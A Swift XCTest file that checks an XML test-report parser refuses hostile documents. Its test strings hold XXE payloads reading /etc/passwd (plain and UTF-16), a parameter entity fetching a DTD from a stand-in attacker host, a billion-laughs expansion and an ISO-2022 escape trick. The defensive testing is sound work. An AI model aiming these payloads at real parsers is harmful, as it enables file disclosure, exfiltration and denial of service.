import VerdictReports
import XCTest

/// Hostile XML must be refused before libxml2 resolves or expands anything.
final class XMLSecurityTests: XCTestCase {
    func testExternalEntityIsRejectedWithoutReadingTheFile() {
        let xxe = """
            <?xml version="1.0"?>
            <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
            <testsuites><testsuite name="s"><testcase name="&e;"/></testsuite></testsuites>
            """
        for format in [nil, ReportFormat.junit] {
            guard let error = parseError(xxe, format: format) else { continue }
            XCTAssertEqual(error.code, .parseError)
            XCTAssertTrue(error.message.contains("entity 'e'"), error.message)
            XCTAssertEqual(error.line, 2)
            XCTAssertNotNil(error.column)
            XCTAssertFalse(error.message.contains("root:"), "file content leaked: \(error.message)")
        }
        XCTAssertThrowsError(try ReportFormat.detect(Array(xxe.utf8)))
    }

    func testParameterEntityIsRejected() {
        let xxe = """
            <?xml version="1.0"?>
            <!DOCTYPE testsuites [
              <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">
              %remote;
            ]>
            <testsuites/>
            """
        let error = parseError(xxe)
        XCTAssertEqual(error?.code, .parseError)
        XCTAssertTrue(error?.message.contains("entity 'remote'") == true, error?.message ?? "")
        XCTAssertEqual(error?.line, 3)
    }

    func testBillionLaughsIsRejectedQuickly() {
        var doc = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n"
        for level in 1...9 {
            let previous = level == 1 ? "lol" : "lol\(level - 1)"
            doc += " <!ENTITY lol\(level) \"" + String(repeating: "&\(previous);", count: 10) + "\">\n"
        }
        doc += "]>\n<testsuites><testsuite name=\"&lol9;\"><testcase name=\"&lol9;\"/></testsuite></testsuites>\n"
        let start = ContinuousClock.now
        let error = parseError(doc)
        XCTAssertEqual(error?.code, .parseError)
        XCTAssertTrue(error?.message.contains("entity 'lol'") == true, error?.message ?? "")
        XCTAssertLessThan(ContinuousClock.now - start, .seconds(1))
    }

    /// The guard reads UTF-16 too; otherwise re-encoding the file would walk around it.
    func testEntityDeclarationInUTF16IsRejected() {
        let xxe =
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><testsuite><testcase name=\"&e;\"/></testsuite>"
        let error = parseError(utf16LE(xxe))
        XCTAssertEqual(error?.code, .parseError)
        XCTAssertTrue(error?.message.contains("entity 'e'") == true, error?.message ?? "")
    }

    func testUTF16ReportParses() throws {
        let xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><testsuite name=\"s\"><testcase name=\"caf\u{E9}\"/></testsuite>"
        let report = try ReportParser.parse(utf16LE(xml))
        XCTAssertEqual(report.cases.map(\.title), ["caf\u{E9}"])
    }

    /// An external DTD reference alone is harmless: it is neither fetched nor loaded.
    func testExternalDTDIsNotFetched() throws {
        let report = try parse(
            """
            <?xml version="1.0"?>
            <!DOCTYPE testsuites SYSTEM "http://dtd.invalid/junit.dtd">
            <testsuites><testsuite name="s"><testcase name="t"/></testsuite></testsuites>
            """)
        XCTAssertEqual(report.totals.passed, 1)
    }

    func testUndeclaredEntityIsAParseErrorWithPosition() {
        let error = parseError("<testsuites>\n  <testsuite name=\"&oops;\"/>\n</testsuites>")
        XCTAssertEqual(error?.code, .parseError)
        XCTAssertEqual(error?.line, 2)
        XCTAssertNotNil(error?.column)
    }

    /// An escape byte could switch a stateful encoding (ISO-2022) and hide markup from the guard.
    func testControlCharactersBeforeTheRootAreRejected() {
        let error = parseError("<?xml version=\"1.0\" encoding=\"ISO-2022-JP\"?><!-- \u{1B}$B --><testsuites/>")
        XCTAssertEqual(error?.code, .parseError)
    }

    func testTruncatedDocumentSaysSo() {
        let error = parseError("<testsuites>\n<testsuite name=\"s\">\n<testcase name=\"t\">\n<failure message=\"m\">boom")
        XCTAssertEqual(error?.code, .parseError)
        XCTAssertTrue(error?.message.contains("<failure>") == true, error?.message ?? "")
        XCTAssertEqual(error?.line, 4)
    }
}
